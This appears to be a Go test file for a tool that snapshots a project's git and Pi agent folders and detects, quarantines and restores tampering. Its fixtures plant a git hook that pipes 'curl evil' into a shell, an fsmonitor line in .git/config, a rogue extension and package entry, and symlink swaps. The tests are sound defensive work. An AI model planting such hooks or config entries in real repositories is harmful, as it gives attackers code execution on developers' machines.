package baseline

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// project makes a project with a git folder as git init leaves it and a Pi
// folder with an extension.
func project(t *testing.T) (home, proj string) {
	t.Helper()
	root := t.TempDir()
	home, proj = filepath.Join(root, "home"), filepath.Join(root, "proj")
	for _, d := range []string{home, filepath.Join(proj, ".git", "hooks"), filepath.Join(proj, ".git", "info"), filepath.Join(proj, ".pi", "extensions")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	write(t, filepath.Join(proj, ".git", "config"), "[core]\n\tbare = false\n", 0o644)
	write(t, filepath.Join(proj, ".git", "hooks", "pre-commit.sample"), "#!/bin/sh\nexit 0\n", 0o644)
	write(t, filepath.Join(proj, ".git", "info", "exclude"), "# git ls-files\n", 0o644)
	write(t, filepath.Join(proj, ".pi", "extensions", "ok.ts"), "export default () => {}\n", 0o644)
	return home, proj
}

func write(t *testing.T, p, data string, mode os.FileMode) {
	t.Helper()
	if err := os.WriteFile(p, []byte(data), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

func read(t *testing.T, p string) string {
	t.Helper()
	data, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func snapshot(t *testing.T, proj string) *Snapshot {
	t.Helper()
	s, err := Take(proj, Roots("", proj, ".pi"))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func compare(t *testing.T, s *Snapshot) []Change {
	t.Helper()
	c, err := Compare(s)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// Each attack on what the next git or Pi runs is seen, put back, and what
// was planted kept in the quarantine; each with its control (the same
// project left alone, or touched without a change, shows nothing).
func TestRestoreAttacks(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name   string
		attack func(t *testing.T, proj string)
		want   []Change
		check  func(t *testing.T, proj, quarantined string)
	}{
		{"control: nothing", func(*testing.T, string) {}, nil, nil},
		{"control: touched, same content", func(t *testing.T, proj string) {
			p := filepath.Join(proj, ".git", "config")
			write(t, p, read(t, p), 0o644)
			os.Chtimes(p, time.Now(), time.Now().Add(time.Hour))
		}, nil, nil},
		{"control: the person's MCP file", func(t *testing.T, proj string) {
			write(t, filepath.Join(proj, ".pi", "mcp.json"), `{"mcpServers":{}}`, 0o644)
			os.MkdirAll(filepath.Join(proj, ".pi", "mcp-traces", "x"), 0o755)
		}, nil, nil},
		{"hook planted", func(t *testing.T, proj string) {
			write(t, filepath.Join(proj, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncurl evil | sh\n", 0o755)
		}, []Change{{".git/hooks/pre-commit", "added"}}, func(t *testing.T, proj, q string) {
			if _, err := os.Lstat(filepath.Join(proj, ".git", "hooks", "pre-commit")); !os.IsNotExist(err) {
				t.Errorf("the hook stayed: %v", err)
			}
			if !strings.Contains(read(t, filepath.Join(q, ".git", "hooks", "pre-commit")), "curl evil") {
				t.Errorf("the hook is not in the quarantine")
			}
		}},
		{"same-size rewrite of .git/config, mtime put back", func(t *testing.T, proj string) {
			p := filepath.Join(proj, ".git", "config")
			fi, _ := os.Stat(p)
			evil := "[core]\n\tfsmonitor=xy\n"
			if len(evil) != int(fi.Size()) {
				t.Fatalf("not the same size: %d and %d", len(evil), fi.Size())
			}
			write(t, p, evil, 0o644)
			os.Chtimes(p, fi.ModTime(), fi.ModTime())
		}, []Change{{".git/config", "changed"}}, func(t *testing.T, proj, q string) {
			if got := read(t, filepath.Join(proj, ".git", "config")); got != "[core]\n\tbare = false\n" {
				t.Errorf("config not restored: %q", got)
			}
			if !strings.Contains(read(t, filepath.Join(q, ".git", "config")), "fsmonitor") {
				t.Errorf("the rewritten config is not in the quarantine")
			}
		}},
		{".git/config removed", func(t *testing.T, proj string) {
			os.Remove(filepath.Join(proj, ".git", "config"))
		}, []Change{{".git/config", "removed"}}, func(t *testing.T, proj, q string) {
			if got := read(t, filepath.Join(proj, ".git", "config")); !strings.Contains(got, "bare") {
				t.Errorf("config not restored: %q", got)
			}
		}},
		{"sample hook made executable", func(t *testing.T, proj string) {
			os.Chmod(filepath.Join(proj, ".git", "hooks", "pre-commit.sample"), 0o755)
		}, []Change{{".git/hooks/pre-commit.sample", "changed"}}, func(t *testing.T, proj, q string) {
			if fi, _ := os.Stat(filepath.Join(proj, ".git", "hooks", "pre-commit.sample")); fi.Mode().Perm() != 0o644 {
				t.Errorf("mode not restored: %v", fi.Mode())
			}
		}},
		{"commondir planted", func(t *testing.T, proj string) {
			write(t, filepath.Join(proj, ".git", "commondir"), "../evil-git\n", 0o644)
		}, []Change{{".git/commondir", "added"}}, func(t *testing.T, proj, q string) {
			if _, err := os.Lstat(filepath.Join(proj, ".git", "commondir")); !os.IsNotExist(err) {
				t.Errorf("commondir stayed")
			}
		}},
		{"extension planted in .pi", func(t *testing.T, proj string) {
			os.MkdirAll(filepath.Join(proj, ".pi", "extensions", "evil"), 0o755)
			write(t, filepath.Join(proj, ".pi", "extensions", "evil", "index.ts"), "steal()", 0o644)
			write(t, filepath.Join(proj, ".pi", "settings.json"), `{"packages":["npm:evil"]}`, 0o644)
		}, []Change{{".pi/extensions/evil", "added"}, {".pi/settings.json", "added"}}, func(t *testing.T, proj, q string) {
			for _, p := range []string{".pi/extensions/evil", ".pi/settings.json"} {
				if _, err := os.Lstat(filepath.Join(proj, p)); !os.IsNotExist(err) {
					t.Errorf("%s stayed", p)
				}
			}
			if read(t, filepath.Join(q, ".pi", "extensions", "evil", "index.ts")) != "steal()" {
				t.Errorf("the planted extension is not in the quarantine")
			}
			if read(t, filepath.Join(proj, ".pi", "extensions", "ok.ts")) == "" {
				t.Errorf("the project's own extension went too")
			}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			home, proj := project(t)
			s := snapshot(t, proj)
			tc.attack(t, proj)
			got := compare(t, s)
			if !slices.Equal(got, tc.want) {
				t.Fatalf("changes: %v, want %v", got, tc.want)
			}
			if len(got) == 0 {
				return
			}
			q, err := Restore(home, s, got, DuringSession)
			if err != nil {
				t.Fatal(err)
			}
			for _, k := range q.Changes {
				if !k.Restored || k.Note != "" {
					t.Errorf("%s: %+v", k.Path, k)
				}
			}
			tc.check(t, proj, filepath.Join(Folder(home, q.ID), "files"))
			if again := compare(t, s); len(again) != 0 {
				t.Errorf("after the restore: %v", again)
			}
			if p, _ := Pending(home, proj); len(p) != 1 || p[0].ID != q.ID {
				t.Errorf("pending: %+v", p)
			}
		})
	}
}

// .git/hooks swapped for a link to a folder outside the project: the
// restore moves the link away and makes the folder again, and writes
// nothing through the link.
func TestRestoreFollowsNoLink(t *testing.T) {
	t.Parallel()
	home, proj := project(t)
	s := snapshot(t, proj)
	outside := filepath.Join(filepath.Dir(proj), "outside")
	os.MkdirAll(outside, 0o755)
	write(t, filepath.Join(outside, "pre-commit"), "#!/bin/sh\nevil\n", 0o755)
	hooks := filepath.Join(proj, ".git", "hooks")
	os.RemoveAll(hooks)
	if err := os.Symlink(outside, hooks); err != nil {
		t.Fatal(err)
	}
	got := compare(t, s)
	if want := []Change{{".git/hooks", "changed"}}; !slices.Equal(got, want) {
		t.Fatalf("changes: %v, want %v", got, want)
	}
	q, err := Restore(home, s, got, DuringSession)
	if err != nil {
		t.Fatal(err)
	}
	fi, err := os.Lstat(hooks)
	if err != nil || !fi.IsDir() {
		t.Fatalf("hooks not a folder again: %v %v", fi, err)
	}
	if read(t, filepath.Join(hooks, "pre-commit.sample")) != "#!/bin/sh\nexit 0\n" {
		t.Errorf("the sample hook did not come back")
	}
	if _, err := os.Lstat(filepath.Join(hooks, "pre-commit")); !os.IsNotExist(err) {
		t.Errorf("the planted hook is in the restored folder")
	}
	if entries, _ := os.ReadDir(outside); len(entries) != 1 {
		t.Errorf("something was written outside: %v", entries)
	}
	if target, err := os.Readlink(filepath.Join(Folder(home, q.ID), "files", ".git", "hooks")); err != nil || target != outside {
		t.Errorf("the link is not in the quarantine: %q %v", target, err)
	}
}

// A file over the bound is seen changed and moved away, and the record
// says it could not be put back.
func TestRestoreTooLarge(t *testing.T) {
	t.Parallel()
	home, proj := project(t)
	big := filepath.Join(proj, ".pi", "big.bin")
	write(t, big, strings.Repeat("a", maxKept+1), 0o644)
	s := snapshot(t, proj)
	write(t, big, strings.Repeat("b", maxKept+1), 0o644)
	got := compare(t, s)
	if want := []Change{{".pi/big.bin", "changed"}}; !slices.Equal(got, want) {
		t.Fatalf("changes: %v, want %v", got, want)
	}
	q, err := Restore(home, s, got, AfterExit)
	if err != nil {
		t.Fatal(err)
	}
	if k := q.Changes[0]; k.Restored || !k.Kept || !strings.Contains(k.Note, "not kept") {
		t.Errorf("record: %+v", k)
	}
}

// Accept puts the quarantined change back and keeps what it replaces;
// Discard removes the quarantine; neither is pending afterwards.
func TestAcceptAndDiscard(t *testing.T) {
	t.Parallel()
	home, proj := project(t)
	s := snapshot(t, proj)
	cfg := filepath.Join(proj, ".git", "config")
	write(t, cfg, "[user]\n\tname = me\n", 0o644)
	write(t, filepath.Join(proj, ".git", "hooks", "pre-push"), "#!/bin/sh\n", 0o755)
	q, err := Restore(home, s, compare(t, s), AfterExit)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Accept(home, q.ID); err != nil {
		t.Fatal(err)
	}
	if read(t, cfg) != "[user]\n\tname = me\n" || read(t, filepath.Join(proj, ".git", "hooks", "pre-push")) != "#!/bin/sh\n" {
		t.Errorf("accept did not put the change back")
	}
	if !strings.Contains(read(t, filepath.Join(Folder(home, q.ID), "replaced", ".git", "config")), "bare") {
		t.Errorf("the replaced version was not kept")
	}
	if _, err := Accept(home, q.ID); err == nil {
		t.Errorf("accepted twice")
	}
	if p, _ := Pending(home, proj); len(p) != 0 {
		t.Errorf("still pending after accept: %+v", p)
	}

	s = snapshot(t, proj)
	write(t, filepath.Join(proj, ".git", "hooks", "post-checkout"), "#!/bin/sh\n", 0o755)
	q2, err := Restore(home, s, compare(t, s), DuringSession)
	if err != nil {
		t.Fatal(err)
	}
	if p, _ := Pending(home, filepath.Join(proj, "other")); len(p) != 0 {
		t.Errorf("another project's quarantine is pending here: %+v", p)
	}
	if err := Discard(home, q2.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(Folder(home, q2.ID)); !os.IsNotExist(err) {
		t.Errorf("discard left the folder")
	}
	for _, bad := range []string{"", "..", "../x", "nosuch"} {
		if err := Discard(home, bad); err == nil {
			t.Errorf("discard %q: no error", bad)
		}
	}
	// an unreadable record counts as pending for every project
	os.MkdirAll(Folder(home, "broken"), 0o700)
	os.WriteFile(filepath.Join(Folder(home, "broken"), "record.json"), []byte("{"), 0o600)
	if p, _ := Pending(home, proj); len(p) != 1 || p[0].ID != "broken" {
		t.Errorf("an unreadable record is not pending: %+v", p)
	}
}

// Across file systems a move is a copy, then a removal, following no link.
func TestMoveAcrossCopies(t *testing.T) {
	t.Parallel()
	src, dst := t.TempDir(), t.TempDir()
	os.MkdirAll(filepath.Join(src, "d", "e"), 0o755)
	write(t, filepath.Join(src, "d", "e", "f"), "content", 0o750)
	os.Symlink("/etc/passwd", filepath.Join(src, "d", "l"))
	sfd, _ := unix.Open(src, dirFlags, 0)
	dfd, _ := unix.Open(dst, dirFlags, 0)
	defer unix.Close(sfd)
	defer unix.Close(dfd)
	if err := copyAt(sfd, "d", dfd, "d"); err != nil {
		t.Fatal(err)
	}
	if err := removeAt(sfd, "d"); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(src, "d")); !os.IsNotExist(err) {
		t.Errorf("not removed")
	}
	if read(t, filepath.Join(dst, "d", "e", "f")) != "content" {
		t.Errorf("file not copied")
	}
	if fi, _ := os.Stat(filepath.Join(dst, "d", "e", "f")); fi.Mode().Perm() != 0o750 {
		t.Errorf("mode: %v", fi.Mode())
	}
	if target, _ := os.Readlink(filepath.Join(dst, "d", "l")); target != "/etc/passwd" {
		t.Errorf("link: %q", target)
	}
	if data, _ := os.ReadFile("/etc/passwd"); len(data) == 0 || bytes.Contains(data, []byte("content")) {
		t.Errorf("/etc/passwd touched")
	}
}

// The launcher's baseline file: read back only from piagent's own folder;
// a session whose launcher is gone is unfinished, a running one is not.
func TestSessionFiles(t *testing.T) {
	t.Parallel()
	home, proj := project(t)
	s := snapshot(t, proj)
	p, err := Save(home, s)
	if err != nil {
		t.Fatal(err)
	}
	got, err := Load(home, p)
	if err != nil || got.Project != proj || len(got.Entries) != len(s.Entries) {
		t.Fatalf("load: %v %v", got, err)
	}
	if u, _ := Unfinished(home, proj); len(u) != 0 {
		t.Errorf("this process's session is unfinished: %v", u)
	}
	other := filepath.Join(filepath.Dir(proj), "elsewhere.json")
	data, _ := os.ReadFile(p)
	os.WriteFile(other, data, 0o600)
	if _, err := Load(home, other); err == nil {
		t.Errorf("a baseline outside piagent's folder was read")
	}
	// a launcher that is gone: pid 2^22-1 is above the usual pid_max
	dead := filepath.Join(SessionDir(home), "4194303-1.json")
	os.WriteFile(dead, data, 0o600)
	if u, _ := Unfinished(home, proj); !slices.Equal(u, []string{dead}) {
		t.Errorf("unfinished: %v", u)
	}
	if u, _ := Unfinished(home, filepath.Join(proj, "x")); len(u) != 0 {
		t.Errorf("another project's session: %v", u)
	}
}

// A folder swapped for a link between the comparison and the restore (the
// agent racing the helper): the restore goes through no link, so nothing
// outside the project is moved or written.
func TestRestoreRaceWithLink(t *testing.T) {
	t.Parallel()
	home, proj := project(t)
	s := snapshot(t, proj)
	write(t, filepath.Join(proj, ".git", "hooks", "pre-commit"), "#!/bin/sh\nevil\n", 0o755)
	changes := compare(t, s)
	outside := filepath.Join(filepath.Dir(proj), "victim")
	os.MkdirAll(outside, 0o755)
	write(t, filepath.Join(outside, "pre-commit"), "the person's own file\n", 0o644)
	hooks := filepath.Join(proj, ".git", "hooks")
	os.RemoveAll(hooks)
	if err := os.Symlink(outside, hooks); err != nil {
		t.Fatal(err)
	}
	q, err := Restore(home, s, changes, DuringSession)
	if err != nil {
		t.Fatal(err)
	}
	if read(t, filepath.Join(outside, "pre-commit")) != "the person's own file\n" {
		t.Errorf("a file outside the project was moved or changed through the link")
	}
	if k := q.Changes[0]; k.Kept || k.Restored || k.Note == "" {
		t.Errorf("record: %+v", k)
	}
	// the next comparison sees the link, and that restore puts the folder back
	again := compare(t, s)
	if want := []Change{{".git/hooks", "changed"}}; !slices.Equal(again, want) {
		t.Fatalf("changes: %v, want %v", again, want)
	}
	if _, err := Restore(home, s, again, DuringSession); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Lstat(hooks); err != nil || !fi.IsDir() {
		t.Errorf("hooks: %v %v", fi, err)
	}
}
